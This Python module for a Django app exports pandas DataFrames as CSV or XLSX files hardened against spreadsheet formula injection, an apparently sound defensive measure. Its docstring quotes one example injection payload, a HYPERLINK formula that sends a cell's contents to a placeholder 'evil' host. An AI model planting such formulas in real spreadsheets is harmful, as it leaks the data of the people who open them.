"""DataFrames out as CSV or XLSX downloads that no spreadsheet will execute.

A cell starting with = + - @ (or a tab or carriage return) is a formula to
Excel and LibreOffice: a client could name their business
``=HYPERLINK("http://evil/?"&A1)`` and have the consultant's spreadsheet run
it. CSV cells get a leading apostrophe (OWASP's advice); XLSX cells are
written as plain strings, which spreadsheets never evaluate.

Control characters other than tab and line breaks are dropped from every
cell, as the PDF does: text pasted from Word can hold a vertical tab, which
XLSX cannot store at all (openpyxl refuses the whole file).
"""

from __future__ import annotations

import io

import pandas as pd
from django.http import HttpResponse
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

from core.text import CONTROL_CHARACTERS

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
MAX_COLUMN_WIDTH = 60


def plain_text(value):
    """A text cell without control characters (tab and line breaks stay)."""
    if isinstance(value, str):
        return CONTROL_CHARACTERS.sub("", value)
    return value


def guard_cell(value):
    """A text cell without control characters, neutralized if a spreadsheet would run it."""
    value = plain_text(value)
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def map_text_cells(frame: pd.DataFrame, clean) -> pd.DataFrame:
    """A copy of the frame with ``clean`` applied to every text cell and header."""
    cleaned = frame.copy()
    for column in cleaned.columns:
        if cleaned[column].dtype == object or pd.api.types.is_string_dtype(cleaned[column]):
            cleaned[column] = cleaned[column].map(clean)
    cleaned.columns = [clean(str(c)) for c in cleaned.columns]
    return cleaned


def _download(content: bytes, *, content_type: str, filename: str) -> HttpResponse:
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    # Client data must not linger in shared or browser caches.
    response["Cache-Control"] = "no-store"
    return response


def csv_response(frame: pd.DataFrame, *, filename: str) -> HttpResponse:
    # UTF-8 with a byte-order mark, so Excel opens accented names correctly.
    text = map_text_cells(frame, guard_cell).to_csv(index=False, date_format="%Y-%m-%d %H:%M")
    return _download(
        text.encode("utf-8-sig"), content_type=CSV_CONTENT_TYPE, filename=f"{filename}.csv"
    )


def xlsx_response(frame: pd.DataFrame, *, filename: str, sheet: str) -> HttpResponse:
    frame = map_text_cells(frame, plain_text)
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        frame.to_excel(writer, index=False, sheet_name=sheet)
        worksheet = writer.sheets[sheet]
        _as_plain_text(worksheet)
        _tidy(worksheet, frame)
    return _download(buffer.getvalue(), content_type=XLSX_CONTENT_TYPE, filename=f"{filename}.xlsx")


def _as_plain_text(worksheet) -> None:
    """openpyxl turns any string starting with "=" into a formula; keep them strings."""
    for row in worksheet.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"


def _tidy(worksheet, frame: pd.DataFrame) -> None:
    """Bold, frozen header and columns wide enough to read."""
    worksheet.freeze_panes = "A2"
    for cell in worksheet[1]:
        cell.font = Font(bold=True)
    for index, column in enumerate(frame.columns, start=1):
        values = [str(column), *(str(v) for v in frame[column].head(200) if v is not None)]
        width = min(max(len(v) for v in values) + 2, MAX_COLUMN_WIDTH)
        worksheet.column_dimensions[get_column_letter(index)].width = width
    for column in frame.columns:
        if pd.api.types.is_datetime64_any_dtype(frame[column]):
            letter = get_column_letter(list(frame.columns).index(column) + 1)
            for cell in worksheet[letter][1:]:
                cell.number_format = "yyyy-mm-dd hh:mm"
